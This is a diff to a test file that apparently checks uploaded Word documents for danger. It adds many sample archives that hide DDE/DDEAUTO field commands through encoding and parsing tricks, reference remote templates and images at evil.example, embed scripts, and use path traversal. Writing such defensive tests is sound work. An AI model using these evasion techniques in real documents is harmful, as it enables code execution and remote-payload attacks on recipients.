@@ -37,8 +37,14 @@ function relations(kind: string, target: string): [string, string] {
 it('a Word document may link to pages, and say what programs do', async () => {
   const linked = archive(
     types,
-    documentOf('<w:t>DDE, DDEAUTO</w:t><w:instrText> PAGE </w:instrText>'),
+    documentOf(
+      '<!-- DDE --><w:t xml:space="preserve">DDE, DDEAUTO &amp; INCLUDETEXT</w:t><w:instrText> PAGE </w:instrText><w:fldChar/>' +
+        '<w:instrText> HYPERLINK "https://dara.example" \\o "Link to my page" </w:instrText>',
+    ),
     relations('hyperlink', 'https://dara.example'),
+    ['docProps/app.xml', '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties/>'],
+    ['customXml/item1.xml', '<b:Sources xmlns:b="http://schemas.example/b" SelectedStyle=""/>'],
+    ['word/media/image1.png', 'a picture'],
   )
   expect(await check(linked, 'cv.docx')).toBe('cv.docx')
 })
@@ -111,6 +117,76 @@ it.each<[string, Buffer]>([
     archive(...word, [
       'word/footnotes.xml',
       Buffer.from('<w:fldSimple w:instr=" dde cmd "/>', 'utf16le'),
+    ]),
+  ],
+  ...(
+    [
+      ['as CDATA', '<w:instrText><![CDATA[DDEAUTO c]]></w:instrText>'],
+      ['divided by a comment', '<w:instrText>D<!-- x -->DEAUTO c</w:instrText>'],
+      ['with long codes of letters', '<w:instrText>&#00000000000068;DE c</w:instrText>'],
+      ['behind a greater-than sign', '<w:fldSimple w:x=">" w:instr="DDEAUTO c"/>'],
+      ['that was deleted', '<w:delInstrText>DDEAUTO c</w:delInstrText>'],
+      ['between others', '<w:instrText> PAGE </w:instrText><w:fldSimple w:instr="DDE c"/>'],
+    ] as const
+  ).map(([how, inside]): [string, Buffer] => [
+    `a program ${how}`,
+    archive(types, documentOf(inside)),
+  ]),
+  ...(['INCLUDETEXT', 'INCLUDEPICTURE', 'LINK', 'IMPORT'] as const).map(
+    (field): [string, Buffer] => [
+      `a document with ${field}`,
+      archive(types, documentOf(`<w:fldSimple w:instr="${field} http://evil.example/x"/>`)),
+    ],
+  ),
+  ['a document with a page in it', archive(types, documentOf('<w:altChunk r:id="r"/>'))],
+  ['one with a part that is a page', archive(...word, ['word/a.htm', '<script>'])],
+  [
+    'a document with an image from elsewhere',
+    archive(types, documentOf('<v:imagedata src="http://evil.example/x.png"/>')),
+  ],
+  [
+    'a document with a DTD',
+    archive(types, [
+      'word/document.xml',
+      '<!DOCTYPE a [<!ENTITY d "DDE">]><w:document><w:fldSimple w:instr="&d;AUTO c"/></w:document>',
+    ]),
+  ],
+  ['a note elsewhere', archive(...word, ['xx/foot.xml', '<w:fldSimple w:instr="DDEAUTO c"/>'])],
+  ['a part of no known kind', archive(...word, ['word/notes', '<w:fldSimple w:instr="DDE c"/>'])],
+  [
+    'a note with the name of a picture',
+    archive(
+      documentOf(),
+      [types, '<Types><Override PartName="/word/a.png" ContentType="x.footnotes+xml"/></Types>'],
+      ['word/a.png', '<w:fldSimple w:instr="DDE c"/>'],
+    ),
+  ],
+  [
+    'a template from elsewhere, in capitals',
+    archive(...word, [
+      'WORD/_RELS/settings.xml.RELS',
+      relations('attachedTemplate', 'http://evil.example/x.dotm')[1],
+    ]),
+  ],
+  [
+    'a template from elsewhere that isn’t said to be',
+    archive(...word, [
+      'word/_rels/settings.xml.rels',
+      '<Relationship Type="x/attachedTemplate" Target="http://evil.example/x.dotm"/>',
+    ]),
+  ],
+  [
+    'a template from elsewhere with two types',
+    archive(...word, [
+      'word/_rels/settings.xml.rels',
+      '<Relationship Type="x/attachedTemplate" a:Type="x/hyperlink" Target="http://evil.example/" TargetMode="External"/>',
+    ]),
+  ],
+  [
+    'a document in another encoding',
+    archive(types, [
+      'word/document.xml',
+      '<?xml version="1.0" encoding="UTF-7"?><w:document>+ADw-w:fldSimple</w:document>',
     ]),
   ],
   ['a document with a file outside', archive(...word, '../../tmp/run')],
